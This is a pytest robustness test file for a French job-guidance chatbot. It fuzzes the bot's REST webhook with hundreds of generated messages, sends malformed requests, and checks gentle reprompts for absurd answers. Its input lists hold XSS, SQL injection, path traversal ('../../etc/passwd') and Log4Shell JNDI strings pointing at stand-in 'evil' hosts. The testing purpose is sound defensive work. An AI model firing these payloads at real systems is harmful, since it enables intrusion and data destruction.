"""Bad input end to end on the real servers: fuzzed messages, malformed requests, absurd answers.

* Fuzz: 500+ generated messages over REST in a few parallel conversations — empty, 10,000
  characters, emoji, other scripts, markup, SQL, control characters, payload look-alikes — then every
  conversation must still reach suggestions. No 5xx, no action failure, every answer French.
* Absurd answers: a kind reprompt, and after three failed tries the offer to skip the question.

One of test_robustness_1…4, run in that order on one stack (the order and its logs: tests/support/robustness.py).
"""

from __future__ import annotations

import json
import random
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Dict, List, Tuple

import pytest

from tests.support.dialogue import Person, post, question_asked, reach_suggestions, reply_problems, reply_texts, say_ok
from tests.support.robustness import assert_no_failure_in_logs, log_text
from tests.support.stack import BotStack

pytestmark = pytest.mark.e2e


# ------------------------------------------------------------------------------------------- fuzz

PAYLOADS = [
    "/restart",
    "/back",
    "/session_start",
    "/nlu_fallback",
    "/out_of_scope",
    "/inexistant",
    "/",
    "//",
    "/ ",
    '/inform{"age": -1}',
    '/inform{"age": 1e999}',
    '/inform{"age": "NaN"}',
    '/inform{"age": [1, 2]}',
    '/inform{"age": null}',
    '/inform{"commune": "<script>"}',
    '/inform{"commune": "<script>alert(1)</script>"}',
    '/inform{"code_insee": "00000"}',
    '/inform{"code_insee": "../../etc/passwd"}',
    '/inform{"besoin": "<img src=x onerror=alert(1)>"}',
    '/inform{"logement": "chateau"}',
    '/inform{"handicap": {"a": 1}}',
    '/inform{"permis": "peut-être"}',
    "/inform{",
    '/inform{"age": }',
    '/inform{"age": 19',
    '/ask_details{"suggestion": "../../x"}',
    '/ask_why_suggestion{"suggestion": 5}',
    "/request_summary",
    "/change_answer",
    "/decline",
    "/affirm",
    "/deny",
    "/dont_know",
    '/ask_definition{"terme": "<b>RQTH</b>"}',
    '/inform{"naissance": "31/02/2099"}',
    "/start_over",
    "/stop",
    "/greet",
    '/inform{"quartier": "' + "q" * 500 + '"}',
]
MARKUP = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bonjour</b>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "<!--",
    "]]>",
    "&lt;&gt;&amp;",
    "<iframe src=//evil>",
]
SQL = [
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "1; SELECT * FROM events",
    "Robert'); DROP TABLE students;--",
    "' UNION SELECT sender_id, data FROM events --",
]
LANGUAGES = [
    "مرحبا، أبحث عن عمل",
    "שלום, אני מחפש עבודה",
    "你好，我在找工作",
    "Привет, я ищу работу",
    "Hello, I'm looking for a job",
    "Hola, busco trabajo",
    "Merhaba, iş arıyorum",
    "Γεια σας",
    "नमस्ते",
    "こんにちは",
]
EMOJI = ["😀", "😀😀😀😀", "🏳️‍🌈", "👍🏽👍🏽", "🤖💬🚗🏠", "❤️" * 50, "🇫🇷"]
CONTROL = [
    "\u0000",
    "\u0000\u0001\u0002\u0003",
    "\x1b[2J\x1b[31mrouge",
    "\u0007\u0008",
    "ligne\r\nligne",
    "\t\t\t",
    "\u200b\u200c\u200d",
    "\ufeffbonjour",
    "\udcff".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
]
RTL = ["\u202eruoj nob", "\u200fمرحبا\u200f 19 ans", "\u202bשלום\u202c Fougères", "abc\u202edef\u202cghi"]
DIGITS = [
    "0",
    "7",
    "19",
    "-1",
    "150",
    "35300",
    "123456789",
    "99999999999999999999999",
    "3.14",
    "1e308",
    "١٩",
    "٣٥٣٠٠",
    "0x1F",
]
WORDS = ["anticonstitutionnellement" * 40, "a" * 2000, "ah" * 1000, "x" * 500 + " " + "y" * 500]
REALISTIC = [
    "bonjour",
    "je cherche un emploi",
    "j'ai 19 ans",
    "Fougères",
    "non",
    "oui",
    "je sais pas",
    "c'est quoi la rqth ?",
    "pourquoi cette question ?",
    "merci",
    "t'es un robot ?",
    "je préfère ne pas répondre",
    "recommencer",
    "en fait j'ai 20 ans",
    "j'habite à Lyon",
    "chez mes parents",
    "g pa le permi",
    "parler à quelqu'un",
]


def long_message(rng: random.Random) -> str:
    kind = rng.randrange(3)
    if kind == 0:
        return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzéèàç ") for _ in range(10_000))
    if kind == 1:
        return " ".join(rng.choice(REALISTIC) for _ in range(700))[:10_000]
    return "".join(chr(rng.randrange(0x20, 0x2FFF)) for _ in range(10_000))


def fuzz_message(rng: random.Random) -> Any:
    """One generated message; about one in four is an ordinary answer, so that the questionnaire moves on
    and the odd messages arrive at every question."""
    category = rng.choices(
        [
            "empty",
            "space",
            "long",
            "emoji",
            "language",
            "markup",
            "sql",
            "control",
            "rtl",
            "digits",
            "word",
            "payload",
            "mixed",
            "realistic",
        ],
        weights=[3, 3, 2, 4, 4, 4, 3, 4, 3, 5, 2, 12, 6, 25],
    )[0]
    pick = {
        "empty": lambda: "",
        "space": lambda: rng.choice([" ", "\n", " \t \n ", "\u00a0", "\u3000"]),
        "long": lambda: long_message(rng),
        "emoji": lambda: rng.choice(EMOJI),
        "language": lambda: rng.choice(LANGUAGES),
        "markup": lambda: rng.choice(MARKUP),
        "sql": lambda: rng.choice(SQL),
        "control": lambda: rng.choice(CONTROL),
        "rtl": lambda: rng.choice(RTL),
        "digits": lambda: rng.choice(DIGITS),
        "word": lambda: rng.choice(WORDS),
        "payload": lambda: rng.choice(PAYLOADS),
        "mixed": lambda: " ".join(
            rng.choice(REALISTIC + MARKUP + EMOJI + DIGITS + SQL) for _ in range(rng.randint(2, 5))
        ),
        "realistic": lambda: rng.choice(REALISTIC),
    }
    return pick[category]()


# Conversations run in parallel, like people do; 16 × 32 = 512 messages. Bounded: past FUZZ_DEADLINE
# seconds no more messages are sent and the test fails (56 s on an idle 2-core machine).
FUZZ_CONVERSATIONS, FUZZ_MESSAGES_EACH, FUZZ_DEADLINE = 16, 32, 900.0


def fuzz_conversation(bot: BotStack, index: int, deadline: float) -> Dict[str, Any]:
    rng = random.Random(20261125 + index)
    sender = f"fuzz-{index}-{uuid.uuid4().hex[:8]}"
    failures: List[str] = []
    slowest = 0.0
    say_ok(bot, sender, "bonjour")
    for _ in range(FUZZ_MESSAGES_EACH - 1):
        if time.monotonic() > deadline:
            failures.append(f"trop lent : délai de {FUZZ_DEADLINE:.0f} s dépassé")
            break
        message = fuzz_message(rng)
        started = time.monotonic()
        status, replies = post(bot, sender, message)
        slowest = max(slowest, time.monotonic() - started)
        if status != 200:
            failures.append(f"{message[:60]!r} → HTTP {status}")
            continue
        failures += [f"{message[:60]!r} → {problem}" for problem in reply_problems(replies)]
    # The same conversation still works: answering the questions still leads to suggestions.
    reach_suggestions(bot, sender, Person(commune=rng.choice(["Fougères", "Lyon", "Vaulx-en-Velin", "35300"])))
    return {"sender": sender, "failures": failures, "slowest": slowest}


def test_fuzzed_messages_never_break_a_conversation(bot):
    started = time.monotonic()
    with ThreadPoolExecutor(FUZZ_CONVERSATIONS) as pool:
        results = list(
            pool.map(lambda i: fuzz_conversation(bot, i, started + FUZZ_DEADLINE), range(FUZZ_CONVERSATIONS))
        )
    elapsed = time.monotonic() - started
    failures = [f"{r['sender']}: {f}" for r in results for f in r["failures"]]
    summary = (
        f"fuzz: {FUZZ_CONVERSATIONS * FUZZ_MESSAGES_EACH} messages in {elapsed:.0f} s, "
        f"slowest answer {max(r['slowest'] for r in results):.1f} s, {len(failures)} problems"
    )
    print("\n" + summary)
    (bot.workdir / "fuzz.txt").write_text(summary + "\n" + "\n".join(failures) + "\n", encoding="utf-8")
    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures[:40])
    assert_no_failure_in_logs(bot)


def test_malformed_requests_get_a_400_not_a_shared_conversation_or_a_500(bot):
    """Rasa alone would answer these 200 (without « sender »: everyone's shared "default" conversation;
    without a text message: an empty answer) or 500 (a body that is not an object)."""
    for body in [
        {"sender": "x"},
        {"message": "bonjour"},
        {"sender": None, "message": "bonjour"},
        {"sender": "", "message": "bonjour"},
        {"sender": "x", "message": None},
        {"sender": "x", "message": 12},
        {"sender": "x", "message": ["a"]},
        {"sender": "x" * 5000, "message": "bonjour"},
        [],
        "texte",
        None,
    ]:
        status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", json.dumps(body).encode())
        assert status == 400, (body, status, answer)
    status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", b"{not json")
    assert status == 400, answer
    status, _ = status_and_body(
        f"{bot.url}/webhooks/rest/webhook", json.dumps({"sender": "gros", "message": "x" * 2_000_000}).encode()
    )
    assert status == 413
    assert "Traceback" not in log_text(bot, "rasa")


def status_and_body(url: str, data: bytes) -> Tuple[int, str]:
    request = urllib.request.Request(url, data=data, method="POST", headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


# ------------------------------------------------------------------------------------------- absurd answers


def need_said(bot, label: str, need: str) -> Tuple[str, List[Dict[str, Any]]]:
    """A new conversation (sender `label-…`): « bonjour », then the need; its sender and the replies to the need."""
    sender = f"{label}-{uuid.uuid4().hex[:8]}"
    say_ok(bot, sender, "bonjour")
    return sender, say_ok(bot, sender, need)


def test_absurd_answers_get_a_kind_reprompt_then_the_offer_to_skip(bot):
    sender, replies = need_said(bot, "absurde", "je cherche un emploi")
    assert question_asked(replies) == "age"
    replies = say_ok(bot, sender, "j'ai 150 ans")
    assert any("150 ans" in t and "mal compris" in t for t in reply_texts(replies)), reply_texts(replies)
    assert not any(b["payload"] == "/decline" for r in replies for b in r.get("buttons") or [])
    replies = say_ok(bot, sender, "j'ai 3 ans")
    assert any("3 ans, vraiment" in t for t in reply_texts(replies)), reply_texts(replies)
    replies = say_ok(bot, sender, "j'ai 200 ans")
    skip = [b for r in replies for b in r.get("buttons") or [] if b["payload"] == "/decline"]
    assert skip and skip[0]["title"] == "Passer cette question", replies
    assert any("Voulez-vous la passer" in t for t in reply_texts(replies))
    assert bot.slots(sender)["age"] is None
    # Taking the offer moves on to the next question; the age is simply not used.
    replies = say_ok(bot, sender, "/decline")
    assert question_asked(replies) == "commune", reply_texts(replies)
    assert "age" in bot.slots(sender)["skipped_slots"]
    reach_suggestions(bot, sender, Person(), replies)


def test_an_unknown_commune_gets_a_kind_reprompt(bot):
    sender, _ = need_said(bot, "commune", "je cherche une formation")
    replies = say_ok(bot, sender, "20 ans")
    assert question_asked(replies) == "commune"
    replies = say_ok(bot, sender, "Trifouillis-les-Oies")
    assert any("Je ne trouve pas cette commune" in t for t in reply_texts(replies)), reply_texts(replies)
    replies = say_ok(bot, sender, "35300")
    assert bot.slots(sender)["commune"] == "Fougères"
    reach_suggestions(bot, sender, Person(), replies)


def test_declining_a_question_moves_on(bot):
    sender, _ = need_said(bot, "refus", "je cherche un emploi")
    replies = say_ok(bot, sender, "je préfère ne pas répondre")
    assert question_asked(replies) == "commune", reply_texts(replies)
    replies = say_ok(bot, sender, "/decline")
    assert question_asked(replies) in ("permis", "qpv"), reply_texts(replies)
    assert {"age", "commune"} <= set(bot.slots(sender)["skipped_slots"])
